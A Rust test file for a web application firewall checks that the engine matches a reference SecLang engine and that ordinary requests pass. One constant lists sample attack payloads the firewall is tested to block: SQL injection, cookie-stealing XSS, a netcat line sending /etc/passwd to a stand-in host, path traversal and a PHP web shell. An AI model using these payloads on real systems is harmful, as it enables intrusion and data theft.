//! SecLang rule sets: the engine against the reference engine, which runs rule after rule over value
//! after value. The same rules with the same messages, the same scores, the same decision, at every
//! paranoia level and however the body is cut.
//!
//! The rule sets are those of this machine ([`common::crs`]); the requests those of the repository
//! and a sample of the development corpora, where they are at hand.
#![allow(
    clippy::unwrap_used,
    clippy::panic,
    reason = "a test that meets the unexpected should stop"
)]

mod common;

use std::path::PathBuf;
use std::sync::Arc;

use common::crs::Crs;
use waf_core::limits::Limits;
use waf_core::policy::PolicySettings;
use waf_core::record::{Decision, DecisionRecord, Mode};
use waf_corpus::reference::{Outcome, Reference, Told};
use waf_corpus::{Cut, Request};

/// Differences told before a test gives up.
const TOLD: usize = 20;

#[test]
fn small_corpus() {
    for crs in Crs::all() {
        for level in [1, 4] {
            let tally = compare(&crs, level, "", own());
            assert!(tally.requests > 60 && tally.told > 60, "{} {level}: {tally:?}", crs.name);
        }
    }
}

/// The requests of the repository.
fn own() -> impl Iterator<Item = Request> {
    waf_corpus::read(&common::root().join("corpus/data/own.jsonl")).map(Result::unwrap)
}

/// What people and programs send every day; the bodies are announced by their length.
const ORDINARY: [(&str, &str); 4] = [
    ("GET /shop/items?page=2&sort=price", ""),
    (
        "POST /login\r\nContent-Type: application/x-www-form-urlencoded",
        "user=ann%40shop.example&password=Tr0ub4dor%263&remember=on",
    ),
    (
        "POST /api/orders\r\nContent-Type: application/json",
        r#"{"items":[{"id":7,"count":2}],"note":"Leave it at the door, please.","gift":false}"#,
    ),
    (
        "POST /up\r\nContent-Type: multipart/form-data; boundary=----b7f3",
        "------b7f3\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nSummer\r\n\
         ------b7f3\r\nContent-Disposition: form-data; name=\"file\"; filename=\"beach.jpg\"\r\n\
         Content-Type: image/jpeg\r\n\r\n\u{1}JFIF beach\r\n------b7f3--\r\n",
    ),
];

/// An attack of each class that both releases tag, as the value of an argument.
const ATTACKS: [(&str, &str); 8] = [
    ("attack-sqli", "1' UNION SELECT name, password FROM users-- -"),
    ("attack-xss", "<script>alert(document.cookie)</script>"),
    ("attack-rce", "a; cat /etc/passwd | nc evil.example 99"),
    ("attack-lfi", "../../../../etc/passwd"),
    ("attack-rfi", "http://203.0.113.9/shell.php?"),
    ("attack-injection-php", "<?php system($_GET['c']); ?>"),
    ("attack-protocol", "x\r\nSet-Cookie: admin=1"),
    ("attack-fixation", "<a onclick=\"document.cookie='PHPSESSID=1; domain=.shop.example'\">"),
];

/// A request of a browser: its line and what it adds to the head, and its body.
fn browser(id: &str, start: &str, body: &str) -> Request {
    let (line, more) = start.split_once("\r\n").unwrap_or((start, ""));
    let more = if more.is_empty() { String::new() } else { format!("{more}\r\n") };
    let length = match body.len() {
        0 => String::new(),
        length => format!("Content-Length: {length}\r\n"),
    };
    let raw = format!(
        "{line} HTTP/1.1\r\nHost: shop.example\r\n\
         User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\n\
         Accept: text/html,application/xhtml+xml;q=0.9,*/*;q=0.8\r\n\
         Accept-Language: en-US,en;q=0.5\r\nAccept-Encoding: gzip, deflate\r\n\
         Cookie: session=0123456789abcdef; theme=dark\r\n{more}{length}\r\n{body}"
    );
    Request { id: id.to_owned(), ..Request::from_raw(raw.as_bytes(), &Limits::default()) }
}

/// A value as a form has it.
fn escaped(value: &str) -> String {
    value.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

#[test]
fn ordinary_requests_pass_and_an_attack_of_each_class_is_blocked() {
    for crs in Crs::all() {
        let policy = crs.policies(1, "", &[PolicySettings::default()]).remove(0);
        let mut runner = common::runner(&policy);
        let reference = Reference::new(policy);
        let mut record = |request: &Request| {
            let record = runner.run(request, Cut::Whole);
            assert_eq!(differ(&record, &reference.judge(request)), [""; 0], "{}", request.id);
            record
        };
        for (start, body) in ORDINARY {
            let record = record(&browser(start, start, body));
            assert_eq!(record.decision, Decision::Pass, "{} {start}: {record:?}", crs.name);
            assert_eq!(record.score.inbound, 0, "{} {start}", crs.name);
        }
        for (class, value) in ATTACKS {
            let form = "POST /p\r\nContent-Type: application/x-www-form-urlencoded";
            let record = record(&browser(class, form, &format!("q={}", escaped(value))));
            assert_eq!(record.decision, Decision::Block, "{} {class}", crs.name);
            let tagged = |tags: &[String]| tags.iter().any(|tag| tag == class);
            assert!(record.matches.iter().any(|it| tagged(&it.tags)), "{} {class}", crs.name);
        }
    }
}

/// A level that the site does not ask for costs nothing: what is scanned is what a set without its
/// rules scans.
#[test]
fn rules_of_higher_levels_are_not_scanned_for() {
    for crs in Crs::all() {
        let settings = [PolicySettings::default()];
        let without = "SecRuleRemoveByTag \"paranoia-level/[234]\"\n";
        let mut runners = [(1, ""), (1, without), (4, "")].map(|(level, more)| {
            let policy = crs.policies(level, more, &settings).remove(0);
            (policy.ruleset().rules().len(), common::runner(&policy))
        });
        assert!(runners[1].0 + 50 < runners[0].0, "{}: the levels have no rules", crs.name);
        let (mut first, mut fourth) = (0, 0);
        for request in own() {
            let [all, without, deep] = runners.each_mut().map(|(_, runner)| {
                let (_, trace) = runner.trace(&request, Cut::Whole);
                assert_eq!(trace.left_out, 0);
                let fields = trace.fields.into_iter();
                fields.map(|it| (it.target, it.at, it.scanned, it.asked)).collect::<Vec<_>>()
            });
            assert_eq!(all, without, "{} {}", crs.name, request.id);
            first += all.iter().map(|(.., scanned, _)| scanned).sum::<u64>();
            fourth += deep.iter().map(|(.., scanned, _)| scanned).sum::<u64>();
        }
        eprintln!("{}: {first} bytes scanned at level 1, {fourth} at level 4", crs.name);
        assert!(first > 0 && first < fourth, "{}: {first} {fourth}", crs.name);
    }
}

/// A rule of phase 1 raises the level for some requests: phase 2 has the rules of all levels for
/// these, and for the others those of the first.
#[test]
fn a_level_raised_on_the_way_brings_its_rules_in() {
    let raise = r#"
SecRule REQUEST_HEADERS:X-Deep "@streq on" "id:100010,phase:1,pass,nolog,\
    setvar:tx.executing_paranoia_level=4,setvar:tx.detection_paranoia_level=4"
"#;
    let deep = |mut request: Request| {
        request.head.headers.push((b"X-Deep".to_vec(), b"on".to_vec()));
        request
    };
    for crs in Crs::all() {
        let plain = compare(&crs, 1, raise, own());
        let raised = compare(&crs, 1, raise, own().map(deep));
        assert_eq!(plain.told, compare(&crs, 1, "", own()).told, "{}", crs.name);
        assert!(plain.told < raised.told, "{}: {plain:?} {raised:?}", crs.name);
    }
}

#[test]
fn development_corpora_sample() {
    development(400);
}

#[test]
#[ignore = "takes an hour"]
fn development_corpora() {
    let step = std::env::var("STEP").map_or(1, |step| step.parse().unwrap());
    development(step);
}

/// Every so many-th request of each corpus; nothing where there are none.
fn development(step: usize) {
    let folder = std::env::var_os("PINPOINT_CORPORA")
        .map_or_else(|| common::root().join("../shared/corpora"), PathBuf::from);
    for crs in Crs::all() {
        for level in 1..=4 {
            for name in ["dev-attack.jsonl.gz", "dev-benign.jsonl.gz"] {
                let file = folder.join(name);
                if file.exists() {
                    let requests = waf_corpus::read(&file).map(Result::unwrap).step_by(step);
                    let tally = compare(&crs, level, "", requests);
                    eprintln!("{} level {level} {name}: {tally:?}", crs.name);
                    assert!(tally.told > 0, "{name}");
                }
            }
        }
    }
}

/// Hold so little that most bodies are decided on the way: the decisions are those of the reference
/// engine, which hears everything, and records are the same however the body is cut.
#[test]
fn verdicts_on_the_way() {
    let folder = std::env::var_os("PINPOINT_CORPORA")
        .map_or_else(|| common::root().join("../shared/corpora"), PathBuf::from);
    let own = common::root().join("corpus/data/own.jsonl");
    let step = std::env::var("STEP").map_or(100, |step| step.parse().unwrap());
    for crs in Crs::all() {
        for level in [1, 4] {
            let files = [(own.clone(), 1), (folder.join("dev-attack.jsonl.gz"), step)];
            let files = files.into_iter().filter(|(file, _)| file.exists());
            let requests = files.flat_map(|(file, step)| {
                let requests = waf_corpus::read(&file).map(Result::unwrap);
                requests.filter(|request| request.body.len() > 32).step_by(step)
            });
            let early = on_the_way(&crs, level, requests);
            eprintln!("{} level {level}: {early} verdicts before the end", crs.name);
            assert!(early > 0, "{} level {level}", crs.name);
        }
    }
}

/// The number of verdicts before the end of the body.
fn on_the_way(crs: &Crs, level: u8, requests: impl Iterator<Item = Request>) -> usize {
    let settings = [Mode::Block, Mode::Detect].map(|mode| {
        let mut settings = PolicySettings { mode, ..PolicySettings::default() };
        settings.limits.record_matches = 1_000;
        settings.limits.hold = 16;
        settings
    });
    let policies = crs.policies(level, "", &settings);
    let (mut runner, mut watching) = (common::runner(&policies[0]), common::runner(&policies[1]));
    let reference = Reference::new(Arc::clone(&policies[0]));
    let mut early = 0;
    for request in requests {
        let judged = reference.judge(&request);
        let mut record = |cut| {
            let mut record = runner.run(&request, cut);
            record.timing_us.inspect = 0;
            record
        };
        let whole = record(Cut::Whole);
        let name = format!("{} level {level} {}", crs.name, request.id);
        for cut in [Cut::Every(1), Cut::Every(7), Cut::Random(request.body.len() as u64)] {
            assert_eq!(record(cut), whole, "{name} {cut:?}");
        }
        assert_eq!(whole.decision, judged.decision, "{name}");
        let watched = watching.run(&request, Cut::Whole);
        assert_eq!(watched.verdict_offset, whole.verdict_offset, "{name}");
        early += usize::from(whole.verdict_offset.is_some_and(|at| at < judged.length));
    }
    early
}

/// What was compared.
#[derive(Debug, Default)]
struct Tally {
    requests: usize,
    blocked: usize,
    /// Matches of rules.
    told: usize,
    /// Requests with a value that was not exact, of which only the decision is compared.
    inexact: usize,
}

/// Compares the engines over requests, each whole and in random pieces; no difference is left.
fn compare(crs: &Crs, level: u8, more: &str, requests: impl Iterator<Item = Request>) -> Tally {
    let mut settings = PolicySettings::default();
    settings.limits.record_matches = 1_000;
    let policy = crs.policies(level, more, &[settings]).remove(0);
    let mut runner = common::runner(&policy);
    let reference = Reference::new(policy);
    let mut tally = Tally::default();
    let mut differences = Vec::new();
    for request in requests {
        let judged = reference.judge(&request);
        tally.requests += 1;
        tally.told += judged.told.len();
        tally.blocked += usize::from(judged.decision == Decision::Block);
        for cut in [Cut::Whole, Cut::Random(tally.requests as u64)] {
            if cut != Cut::Whole && request.body.is_empty() {
                continue;
            }
            let record = runner.run(&request, cut);
            tally.inexact += usize::from(!record.coverage.inexact.is_empty());
            let found = differ(&record, &judged);
            let told = |what| format!("{} level {level} {} {cut:?}: {what}", crs.name, request.id);
            differences.extend(found.into_iter().map(told));
        }
        assert!(differences.len() < TOLD, "{}", differences.join("\n"));
    }
    assert!(differences.is_empty(), "{}", differences.join("\n"));
    tally
}

/// How a record differs from what it should be.
fn differ(record: &DecisionRecord, judged: &Outcome) -> Vec<String> {
    let mut differences = Vec::new();
    if record.decision != judged.decision {
        differences.push(format!("{:?} and not {:?}", record.decision, judged.decision));
    }
    if !record.coverage.inexact.is_empty() {
        return differences;
    }
    let ours = told(record);
    let mut theirs = judged.told.clone();
    theirs.sort();
    for told in ours.iter().filter(|told| !theirs.contains(told)) {
        differences.push(format!("only the engine tells {told:?}"));
    }
    for told in theirs.iter().filter(|told| !ours.contains(told)) {
        differences.push(format!("only the reference tells {told:?}"));
    }
    if differences.is_empty() && ours.len() != theirs.len() {
        differences.push(format!("{} matches and not {}", ours.len(), theirs.len()));
    }
    let held = (i64::from(record.score.inbound), i64::from(record.score.inbound_threshold));
    // A finding that blocks has a score of its own.
    if judged.matches.is_empty() && judged.held.is_some_and(|judged| judged != held) {
        differences.push(format!("score {held:?} and not {:?}", judged.held));
    }
    if let Some(status) = judged.status
        && record.decision == Decision::Block
        && record.status != Some(status)
    {
        differences.push(format!("status {:?} and not {status}", record.status));
    }
    differences
}

/// The SecLang rules of a record, in an order that both have.
fn told(record: &DecisionRecord) -> Vec<Told> {
    let of = |bookkeeping: bool| {
        let list = if bookkeeping { &record.bookkeeping } else { &record.matches };
        list.iter().map(move |known| Told {
            id: known.rule_id.clone(),
            message: known.message.clone(),
            data: known.data.clone(),
            bookkeeping,
            after_verdict: known.after_verdict,
            score: i64::from(known.score),
        })
    };
    let mut told: Vec<Told> = of(false).chain(of(true)).collect();
    told.sort();
    told
}
